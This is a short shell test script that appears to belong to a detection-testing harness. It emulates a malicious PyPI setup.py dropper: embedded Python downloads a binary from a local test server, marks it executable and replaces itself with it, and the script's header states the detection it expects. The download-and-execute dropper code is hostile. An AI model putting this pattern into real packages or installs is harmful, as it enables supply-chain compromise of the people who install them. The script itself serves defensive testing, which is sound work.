#!/bin/sh
# technique: T1105 Ingress Tool Transfer; T1059.006 Command and Scripting Interpreter: Python
# reproduces: malicious PyPI setup.py droppers: urllib.request.urlretrieve() of an ELF, os.chmod(), then exec of it from the install process itself
# expect: dropped-file-executed ^pip-build-helper$
# exec-borne: yes
#
# No shell tool touches the payload: python downloads it, marks it
# executable and replaces itself with it (os.execv).
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

build_dir=$(mktemp -d "${BW_ATTACK_TMP:?}/pip-build-XXXXXX")
trap 'rm -rf "$build_dir"' EXIT

python3 - "http://127.0.0.1:${BW_ATTACK_PORT:?}/agent" "$build_dir/pip-build-helper" <<'PY'
import os
import sys
import urllib.request

url, dest = sys.argv[1], sys.argv[2]
urllib.request.urlretrieve(url, dest)
os.chmod(dest, 0o755)
os.execv(dest, [dest, "--setup"])
PY
